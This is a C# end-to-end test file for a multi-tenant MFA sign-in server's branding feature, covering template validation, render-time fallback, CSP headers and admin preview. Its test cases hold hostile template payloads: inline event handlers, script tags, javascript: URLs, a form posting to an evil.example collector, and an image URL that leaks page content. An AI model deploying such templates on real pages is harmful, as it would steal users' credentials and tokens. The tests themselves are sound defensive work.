using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using RulesMfa.Host.Storage;
using RulesMfa.Tests.Admin;
using RulesMfa.Tests.EndToEnd;
using RulesMfa.Tests.Support;
using Page = RulesMfa.Tests.EndToEnd.FormBrowser.Page;

namespace RulesMfa.Tests.Branding;

/// <summary>
/// A tenant's branding through the admin API and on its real hosted pages: the page template around the sign-in page of
/// a real OIDC login, scripts and broken templates refused with where, a template that fails at render replaced by the
/// default layout (logged, never an error page), and the pages' Content-Security-Policy allowing no inline script.
/// </summary>
[NonParallelizable]
public sealed class BrandingEndToEndTests
{
    private const string Tenant = "acme";
    private const string Admin = "admin@acme.example";
    private const string Password = "a long enough password";
    private const string Template = """
        <div class="acme-frame">
          <p id="acme-banner" style="color: {{ tenant.color }}">Welcome to {{ tenant.name }}</p>
          <section id="acme-content">{{ content }}</section>
        </div>
        """;

    private readonly TempFolder logs = new();
    private RulesMfaServer server = null!;
    private AdminApiClient api = null!;
    private RelyingParty app = null!;

    private string LogFile => Path.Combine(logs.Path, "rulesmfa.json");

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        server = await RulesMfaServer.StartAsync("--Server:LogFile", LogFile);
        await server.AddTenantAsync(Tenant, displayName: "Acme");
        await server.AddUserAsync(Tenant, Admin, Password, isAdmin: true);
        api = await AdminApiClient.CreateAsync(server, Tenant);
        app = await RelyingParty.StartAsync(server, Tenant, "acme-web");
    }

    [OneTimeTearDown]
    public async Task StopAsync()
    {
        api.Dispose();
        await app.DisposeAsync();
        await server.DisposeAsync();
        logs.Dispose();
    }

    [SetUp]
    public Task ResetAsync() => api.PutAsync("/branding", new { displayName = "Acme", logoUrl = (string?)null, primaryColor = (string?)null, pageTemplate = (string?)null });

    [Test]
    public async Task Template_AppearsAroundARealSignInPage_WithTheTenantsNameColourAndLogo()
    {
        var saved = await api.PutAsync("/branding", new { displayName = "Acme Corp", logoUrl = "https://acme.example/logo.png", primaryColor = "#7a1f5c", pageTemplate = Template });

        using var browser = new FormBrowser();
        var login = await browser.GetAsync(app.BaseUrl + "/login");

        var content = login.Document.GetElementById("acme-content");
        Assert.Multiple(() =>
        {
            Assert.That(saved.Status, Is.EqualTo(200), saved.Text);
            Assert.That(login.Url.AbsolutePath, Is.EqualTo($"/{Tenant}/login"));
            Assert.That(login.Text("acme-banner"), Is.EqualTo("Welcome to Acme Corp"));
            Assert.That(login.Document.GetElementById("acme-banner")!.GetAttribute("style"), Is.EqualTo("color: #7a1f5c"));
            Assert.That(content?.QuerySelector("form #password"), Is.Not.Null, "the sign-in form sits inside the template");
            Assert.That(login.Document.GetElementById("tenant"), Is.Null, "the template replaces the default header");
            Assert.That(login.Document.QuerySelector("style")!.TextContent, Does.Contain("--brand: #7a1f5c"));
        });
    }

    [Test]
    public async Task DefaultLayout_ShowsTheHttpsLogoAndName()
    {
        await api.PutAsync("/branding", new { displayName = "Acme Corp", logoUrl = "https://acme.example/logo.png", primaryColor = "#7a1f5c", pageTemplate = (string?)null });

        using var browser = new FormBrowser();
        var login = await browser.GetAsync(app.BaseUrl + "/login");

        Assert.Multiple(() =>
        {
            Assert.That(login.Text("tenant-name"), Is.EqualTo("Acme Corp"));
            Assert.That(login.Document.QuerySelector("#tenant img")!.GetAttribute("src"), Is.EqualTo("https://acme.example/logo.png"));
        });
    }

    [TestCase("<p>Hi</p>\n<div onmouseover=\"steal()\">{{ content }}</div>", "must not contain an inline event handler (onmouseover=): the hosted pages run no script of a template", 2, 6)]
    [TestCase("<p>Hi</p>\n  <script src=\"https://cdn.example/x.js\"></script>{{ content }}", "must not contain a <script> element: the hosted pages run no script of a template", 2, 3)]
    [TestCase("<a href=\"JavaScript:alert(1)\">x</a>{{ content }}", "must not contain a javascript: URL: the hosted pages run no script of a template", 1, 10)]
    [TestCase("<p>Hi</p>\n<form action=\"https://evil.example/collect\" method=\"post\">{{ content }}</form>", "must not contain a <form> element: only the page's own forms take what users type", 2, 1)]
    [TestCase("<main>\n  {% for x in %}{{ content }}\n</main>", null, 2, null)]
    public async Task Put_ScriptOrBrokenTemplate_Is400WithLineAndColumn_AndNothingIsSaved(string template, string? message, int line, int? column)
    {
        var refused = await api.PutAsync("/branding", new { displayName = "Changed", pageTemplate = template });
        var stored = await api.GetAsync("/branding");

        var error = refused.Json["errors"]![0]!;
        Assert.Multiple(() =>
        {
            Assert.That(refused.Status, Is.EqualTo(400), refused.Text);
            Assert.That(error["field"]!.GetValue<string>(), Is.EqualTo("pageTemplate"));
            Assert.That(error["message"]!.GetValue<string>(), message is null ? Does.StartWith("is not valid Liquid: ") : Is.EqualTo(message));
            Assert.That(error["line"]!.GetValue<int>(), Is.EqualTo(line));
            if (column is not null)
            {
                Assert.That(error["column"]!.GetValue<int>(), Is.EqualTo(column));
            }

            Assert.That(stored.Json["displayName"]!.GetValue<string>(), Is.EqualTo("Acme"), "nothing half-saved");
            Assert.That(stored.Json["pageTemplate"], Is.Null);
        });
    }

    [Test]
    public async Task Put_BadNameLogoAndColour_Is400NamingEachField()
    {
        var refused = await api.PutAsync("/branding", new { displayName = " ", logoUrl = "http://acme.example/logo.png", primaryColor = "#ffe680" });

        Assert.Multiple(() =>
        {
            Assert.That(refused.Status, Is.EqualTo(400), refused.Text);
            Assert.That(refused.Json["errors"]!.AsArray().Select(error => $"{error!["field"]}: {error["message"]}"), Is.EqualTo(new[]
            {
                "displayName: must be 1 to 100 characters, with no line breaks or control characters",
                "logoUrl: must be an absolute https:// URL of at most 2,048 characters, such as https://example.com/logo.png",
                "primaryColor: is too light for the white text on it: contrast 1.24:1, at least 4.5:1 is needed",
            }));
        });
    }

    [Test]
    public async Task StoredTemplateThatFailsAtRender_PageUsesTheDefaultLayout_AndTheFallbackIsLogged()
    {
        // As a template saved before a check was added: it makes a script only once rendered.
        await StoreTemplateDirectlyAsync("{% if tenant.name contains 'Acme' %}<scr{% endif %}ipt>alert(1)</script>{{ content }}");

        using var browser = new FormBrowser();
        var login = await browser.GetAsync(app.BaseUrl + "/login");

        var log = await ReadSharedAsync(LogFile);
        Assert.Multiple(() =>
        {
            Assert.That(login.Status, Is.EqualTo(System.Net.HttpStatusCode.OK));
            Assert.That(login.Html, Does.Not.Contain("alert(1)"));
            Assert.That(login.Text("tenant-name"), Is.EqualTo("Acme"), "the default layout");
            Assert.That(login.Document.GetElementById("password"), Is.Not.Null, "never a blank page");
            Assert.That(log.Split('\n').Where(line => line.Contains("\"Id\":1260", StringComparison.Ordinal)), Has.One.Contains($"\"TenantId\":\"{Tenant}\"")
                .And.One.Contains("\"Reason\":\"made a <script> element"), "logged once, with the tenant and the reason");
        });
    }

    [Test]
    public async Task StoredTemplateWrappingTheSignInFormInItsOwn_PageUsesTheDefaultLayout_AndThePasswordStaysInTheServersForm()
    {
        // As a template saved before forms were refused: the browser ignores the page's nested <form> tag, so the email
        // and password fields belonged to the template's form, which posted them to another site.
        await StoreTemplateDirectlyAsync("<form action=\"https://evil.example/collect\" method=\"post\">{{ content }}</form>");

        using var browser = new FormBrowser();
        var login = await browser.GetAsync(app.BaseUrl + "/login");

        var password = (AngleSharp.Html.Dom.IHtmlInputElement)login.Document.GetElementById("password")!;
        var log = await ReadSharedAsync(LogFile);
        Assert.Multiple(() =>
        {
            Assert.That(password.Form!.GetAttribute("action"), Is.Null, "the sign-in page's own form, which posts to the page");
            Assert.That(login.Html, Does.Not.Contain("evil.example"));
            Assert.That(login.Text("tenant-name"), Is.EqualTo("Acme"), "the default layout");
            Assert.That(log.Split('\n').Where(line => line.Contains("\"Id\":1260", StringComparison.Ordinal) && line.Contains("\"Reason\":\"made a <form> element", StringComparison.Ordinal)),
                Has.One.Contains($"\"TenantId\":\"{Tenant}\""), "logged once, with the tenant and the reason");
        });
    }

    [Test]
    public async Task StoredTemplateWithThePageInsideAnImagesUrl_PageUsesTheDefaultLayout_AndNoImageCarriesThePage()
    {
        // As a template saved before where the content stands was checked: the page's markup, up to the next quote, was the
        // URL of an image on another site (its antiforgery token and return URL with it; on the enrollment page the key).
        await StoreTemplateDirectlyAsync("<header>Acme</header><img alt=\"\" src=\"https://evil.example/c?{{ content }}\">");

        using var browser = new FormBrowser();
        var login = await browser.GetAsync(app.BaseUrl + "/login");

        var log = await ReadSharedAsync(LogFile);
        Assert.Multiple(() =>
        {
            Assert.That(login.Document.Images.Select(image => image.GetAttribute("src")), Has.None.Contains("evil.example"));
            Assert.That(login.Text("tenant-name"), Is.EqualTo("Acme"), "the default layout");
            Assert.That(login.Document.GetElementById("password"), Is.Not.Null, "never a blank page");
            Assert.That(log.Split('\n').Where(line => line.Contains("\"Id\":1260", StringComparison.Ordinal) && line.Contains("between elements, not inside a tag", StringComparison.Ordinal)),
                Has.One.Contains($"\"TenantId\":\"{Tenant}\""), "logged once, with the tenant and the reason");
        });
    }

    [Test]
    public async Task HostedPages_ContentSecurityPolicy_AllowsOnlyScriptsWithTheResponsesNonce()
    {
        await api.PutAsync("/branding", new { displayName = "Acme", pageTemplate = Template });

        using var browser = new FormBrowser();
        var first = await browser.GetAsync(app.BaseUrl + "/login");
        var second = await browser.GetAsync(app.BaseUrl + "/login");

        var policy = first.Header("Content-Security-Policy");
        var scriptSrc = policy.Split(';').Select(part => part.Trim()).Single(part => part.StartsWith("script-src ", StringComparison.Ordinal));
        Assert.Multiple(() =>
        {
            Assert.That(scriptSrc, Does.Match("^script-src 'nonce-[A-Za-z0-9+/]{22}=='$"), "no 'unsafe-inline', no host");
            Assert.That(policy, Does.Contain("object-src 'none'").And.Contain("base-uri 'none'").And.Contain("frame-ancestors 'none'"));
            Assert.That(second.Header("Content-Security-Policy"), Is.Not.EqualTo(policy), "a new nonce for each response");
            Assert.That(first.Header("X-Frame-Options"), Is.EqualTo("DENY"));
        });
    }

    [Test]
    public async Task Preview_ForAConsoleAdminWithTheFormsToken_ShowsTheUnsavedTemplate_FramableByTheConsoleOnly()
    {
        using var admin = new FormBrowser();
        var enrollment = await admin.SubmitAsync(await admin.GetAsync($"{server.Issuer(Tenant)}/admin"), new Dictionary<string, string> { ["Email"] = Admin, ["Password"] = Password });
        var recoveryCode = await LoginFlow.SubmitCodeAsync(admin, enrollment, LoginFlow.CodeFor(LoginFlow.KeyFrom(enrollment)));
        var console = await LoginFlow.FollowAsync(admin, recoveryCode, "continue");
        var fields = new Dictionary<string, string> { ["DisplayName"] = "Acme Preview", ["PrimaryColor"] = "#7a1f5c", ["PageTemplate"] = Template };

        var preview = await admin.SubmitAsync(console, fields, formWithField: "DisplayName");
        var withoutToken = await admin.PostAsync($"{server.Issuer(Tenant)}/admin/branding/preview", fields);
        using var stranger = new FormBrowser();
        var signIn = await stranger.GetAsync($"{server.Issuer(Tenant)}/admin");
        var strangersToken = signIn.Document.QuerySelector("input[name=__RequestVerificationToken]")!.GetAttribute("value")!;
        var withoutSession = await Page.FromAsync(await stranger.PostAsync($"{server.Issuer(Tenant)}/admin/branding/preview",
            new Dictionary<string, string>(fields) { ["__RequestVerificationToken"] = strangersToken }));
        var stored = await api.GetAsync("/branding");

        Assert.Multiple(() =>
        {
            Assert.That(preview.Text("acme-banner"), Is.EqualTo("Welcome to Acme Preview"), preview.Html);
            Assert.That(preview.Header("Content-Security-Policy"), Does.Contain("frame-ancestors 'self'").And.Contain("script-src 'nonce-"));
            Assert.That(preview.Header("X-Frame-Options"), Is.EqualTo("SAMEORIGIN"));
            Assert.That((int)withoutToken.StatusCode, Is.EqualTo(400), "a cross-site form has no antiforgery token");
            Assert.That(withoutSession.Url.AbsolutePath, Is.EqualTo($"/{Tenant}/login"), "a valid token but no console session: sent to sign in");
            Assert.That(withoutSession.Html, Does.Not.Contain("acme-banner"));
            Assert.That(stored.Json["pageTemplate"], Is.Null, "a preview saves nothing");
        });
    }

    private Task StoreTemplateDirectlyAsync(string template) => server.WithServicesAsync(async services =>
    {
        var database = services.GetRequiredService<RulesMfaDbContext>();
        var tenant = await database.Tenants.SingleAsync(record => record.Id == Tenant);
        tenant.PageTemplate = template;
        return await database.SaveChangesAsync();
    });

    private static async Task<string> ReadSharedAsync(string path)
    {
        await using var file = new FileStream(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
        return await new StreamReader(file).ReadToEndAsync();
    }
}
